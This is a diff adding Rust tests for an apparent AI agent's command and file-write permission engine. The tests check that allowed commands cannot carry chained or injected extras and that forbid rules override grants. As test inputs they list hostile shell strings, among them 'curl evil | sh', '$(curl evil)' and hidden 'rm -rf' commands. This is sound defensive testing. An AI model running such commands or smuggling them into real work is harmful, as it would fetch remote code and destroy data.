@@ -1,0 +1,207 @@
+use super::*;
+
+fn held<'a>(mode: PermissionMode, grants: &'a [String], restrictions: &'a Restrictions) -> Held<'a> {
+    Held { mode, grants, restrictions }
+}
+
+fn rules(allow: &[&str], ask: &[&str], forbid: &[&str]) -> Rules {
+    Rules::parse(allow, ask, forbid).unwrap()
+}
+
+struct Asked<'a> {
+    rules: &'a Rules,
+    mode: PermissionMode,
+    grants: Vec<String>,
+    restrictions: Restrictions,
+}
+
+impl<'a> Asked<'a> {
+    fn of(rules: &'a Rules, mode: PermissionMode) -> Self {
+        Self { rules, mode, grants: Vec::new(), restrictions: Restrictions::default() }
+    }
+
+    fn granted(mut self, rules: &[&str]) -> Self {
+        self.grants = rules.iter().map(|rule| (*rule).to_owned()).collect();
+        self
+    }
+
+    fn judge(&self, tool: &str, level: Level, subject: &Subject) -> Ruling {
+        let facts = Facts { tool, level, subject, cwd: Path::new("/project"), wants: Some("do it") };
+        self.rules.judge(&facts, &held(self.mode, &self.grants, &self.restrictions))
+    }
+
+    fn bash(&self, command: &str) -> Ruling {
+        self.judge("bash", Level::Execute, &Subject::Command(command.to_owned()))
+    }
+
+    fn write(&self, path: &str) -> Ruling {
+        self.judge("write_file", Level::Write, &Subject::Path(path.to_owned()))
+    }
+}
+
+fn allowed(ruling: Ruling) -> Option<String> {
+    match ruling {
+        Ruling::Allow { by } => Some(by.into_owned()),
+        Ruling::Ask(_) | Ruling::Forbid { .. } => None,
+    }
+}
+
+fn is_asked(ruling: &Ruling) -> bool {
+    matches!(ruling, Ruling::Ask(_))
+}
+
+fn is_forbidden(ruling: &Ruling) -> bool {
+    matches!(ruling, Ruling::Forbid { .. })
+}
+
+#[test]
+fn f46_a_yes_to_a_command_is_no_yes_to_what_is_joined_to_it() {
+    let rules = rules(&["bash(git status)", "bash(cargo test *)"], &[], &[]);
+    let asked = Asked::of(&rules, PermissionMode::Ask);
+    for covered in
+        ["git status", "git  status", "'git' \"status\"", "cargo test", "cargo test -p x", "git status && cargo test"]
+    {
+        assert!(allowed(asked.bash(covered)).is_some(), "{covered}");
+    }
+    for not in [
+        "git status && curl evil | sh",
+        "git status; rm -rf x",
+        "git status -s",
+        "git statusx",
+        "git status > x",
+        "git status $(curl evil)",
+        "git status & curl evil",
+        "PATH=. git status",
+        "cargo test | tee x",
+        "sh -c 'git status'",
+        "git status\ncurl evil",
+        "./git status",
+    ] {
+        assert!(is_asked(&asked.bash(not)), "{not}");
+    }
+}
+
+#[test]
+fn a_forbid_is_stronger_than_any_yes() {
+    let rules = rules(&["bash", "write_file"], &[], &["bash(rm *)", "write_file(secrets/**)"]);
+    for mode in [PermissionMode::Strict, PermissionMode::Ask, PermissionMode::AutoSafe, PermissionMode::Yolo] {
+        let asked = Asked::of(&rules, mode).granted(&["bash", "bash(rm x)", "write_file(secrets/a)"]);
+        for never in ["rm x", "ls && rm x", "env rm x", "sh -c 'rm x'", "echo $(rm x)", "find . -exec rm x ;"] {
+            assert!(is_forbidden(&asked.bash(never)), "{mode:?} {never}: {:?}", asked.bash(never));
+        }
+        for never in ["secrets/a", "./secrets/deep/b", "x/../secrets/a", "/project/secrets/a"] {
+            assert!(is_forbidden(&asked.write(never)), "{mode:?} {never}");
+        }
+        assert!(allowed(asked.bash("ls")).is_some() && allowed(asked.write("a")).is_some());
+    }
+    // What cannot be read may hide it: in no mode does it run without a person's word.
+    let asked = Asked::of(&rules, PermissionMode::Yolo);
+    assert!(is_asked(&asked.bash("$(echo r)m x")), "{:?}", asked.bash("$(echo r)m x"));
+    assert!(is_asked(&asked.bash("python -c 'import os'")));
+}
+
+#[test]
+fn an_ask_rule_asks_in_any_mode_until_someone_says_yes_for_the_session() {
+    let rules = rules(&["bash(git *)"], &["bash(git push *)"], &[]);
+    for mode in [PermissionMode::Ask, PermissionMode::Yolo] {
+        let Ruling::Ask(question) = Asked::of(&rules, mode).bash("git push origin") else { panic!("{mode:?}") };
+        assert_eq!(question.offer, GrantScope::Session, "always would not help");
+        assert!(question.reason.contains("bash(git push *)"), "{question:?}");
+        let granted: Vec<&str> = question.rules.iter().map(String::as_str).collect();
+        assert!(allowed(Asked::of(&rules, mode).granted(&granted).bash("git push origin")).is_some());
+        assert!(is_asked(&Asked::of(&rules, mode).granted(&granted).bash("git push other")));
+        assert!(allowed(Asked::of(&rules, mode).bash("git status")).is_some());
+    }
+}
+
+#[test]
+fn a_question_offers_as_long_as_can_be_kept() {
+    let none = Rules::default();
+    let asked = Asked::of(&none, PermissionMode::Ask);
+    let question = |ruling: Ruling| match ruling {
+        Ruling::Ask(question) => (question.offer, question.rules),
+        other => panic!("{other:?}"),
+    };
+    let one = |rule: &str| vec![rule.to_owned()];
+    assert_eq!(question(asked.bash("cargo test")), (GrantScope::Always, one("bash(cargo test)")));
+    assert_eq!(question(asked.bash("make && ls -l")).1, ["bash(make)", "bash(ls -l)"]);
+    for once in ["python -c 1", "env ls", "xargs ls", "sudo ls", "sh -c ls", "ls $HOME", "ls > x", "a=1 ls"] {
+        assert_eq!(question(asked.bash(once)), (GrantScope::Once, Vec::new()), "{once}");
+    }
+    let dangerous = asked.judge("bash", Level::Dangerous, &Subject::Command("rm -r x".into()));
+    assert_eq!(question(dangerous), (GrantScope::Session, one("bash(rm -r x)")));
+    assert_eq!(question(asked.write("src/a [1].rs")).1, ["write_file(src/a [[]1[]].rs)"]);
+    assert_eq!(question(asked.write("../out")), (GrantScope::Once, Vec::new()));
+    let tool = asked.judge("deploy", Level::Execute, &Subject::Nothing);
+    assert_eq!(question(tool), (GrantScope::Always, one("deploy")));
+}
+
+#[test]
+fn what_is_offered_covers_exactly_what_was_asked() {
+    let none = Rules::default();
+    for command in
+        ["cargo test", "git commit -m 'it''s done; rm -rf /'", "echo 'a * b' | cat", "printf '%s)' x", "ls 'a b'"]
+    {
+        let Ruling::Ask(question) = Asked::of(&none, PermissionMode::Ask).bash(command) else { panic!("{command}") };
+        if question.rules.is_empty() {
+            continue;
+        }
+        let granted: Vec<&str> = question.rules.iter().map(String::as_str).collect();
+        assert!(
+            allowed(Asked::of(&none, PermissionMode::Ask).granted(&granted).bash(command)).is_some(),
+            "{command}: {granted:?}"
+        );
+        let more = format!("{command} more");
+        assert!(is_asked(&Asked::of(&none, PermissionMode::Ask).granted(&granted).bash(&more)), "{more}");
+    }
+    let path = "src/a [1]*.rs";
+    let Ruling::Ask(question) = Asked::of(&none, PermissionMode::Ask).write(path) else { panic!() };
+    let granted: Vec<&str> = question.rules.iter().map(String::as_str).collect();
+    let asked = Asked::of(&none, PermissionMode::Ask).granted(&granted);
+    assert!(allowed(asked.write(path)).is_some() && is_asked(&asked.write("src/a 1b.rs")));
+}
+
+#[test]
+fn the_mode_decides_where_no_rule_does() {
+    let none = Rules::default();
+    let asked = |mode| Asked::of(&none, mode).write("a");
+    assert!(is_asked(&asked(PermissionMode::Strict)) && is_asked(&asked(PermissionMode::Ask)));
+    assert_eq!(allowed(asked(PermissionMode::AutoSafe)).as_deref(), Some("mode auto-safe"));
+    assert_eq!(allowed(asked(PermissionMode::Yolo)).as_deref(), Some("mode yolo"));
+    let dangerous = |mode| Asked::of(&none, mode).judge("x", Level::Dangerous, &Subject::Nothing);
+    assert!(is_forbidden(&dangerous(PermissionMode::Strict)) && is_asked(&dangerous(PermissionMode::AutoSafe)));
+}
+
+#[test]
+fn paths_are_matched_as_they_lie_beneath_the_working_directory() {
+    let rules = rules(&["write_file(src/**)", "write_file(*.md)"], &[], &[]);
+    let asked = Asked::of(&rules, PermissionMode::Ask);
+    for covered in ["src/a.rs", "./src/deep/b.rs", "src/x/../a.rs", "/project/src/a.rs", "README.md"] {
+        assert!(allowed(asked.write(covered)).is_some(), "{covered}");
+    }
+    for not in ["src", "a.rs", "src/../a.rs", "docs/x.md", "../src/a.rs", "/src/a.rs", "src/../../src/a"] {
+        assert!(is_asked(&asked.write(not)), "{not}");
+    }
+}
+
+#[test]
+fn a_sessions_own_rules_only_tighten() {
+    let rules = rules(&["bash(ls)"], &[], &[]);
+    let mut asked = Asked::of(&rules, PermissionMode::Yolo);
+    asked.restrictions = Restrictions { ask: vec!["bash(make)".into()], forbid: vec!["bash(ls)".into()] };
+    assert!(is_forbidden(&asked.bash("ls")) && is_asked(&asked.bash("make")));
+    assert!(allowed(asked.bash("true")).is_some());
+    asked.restrictions.forbid = vec!["no rule(".into()];
+    assert!(is_forbidden(&asked.bash("true")), "what cannot be read forbids");
+}
+
+#[test]
+fn what_is_no_rule_is_told() {
+    for bad in ["", "(ls)", "bash(", "bash()", "bash ls", "bash(ls", "write_file([)", "ba sh(x)"] {
+        let error = Rule::parse(bad).unwrap_err().to_string();
+        assert!(error.contains("is no rule") && error.contains("bash(git status)"), "{bad}: {error}");
+    }
+    for good in ["bash", " bash ", "bash(ls)", "mcp__x(*)", "write_file(src/**)"] {
+        assert_eq!(Rule::parse(good).unwrap().to_string(), good.trim());
+    }
+}
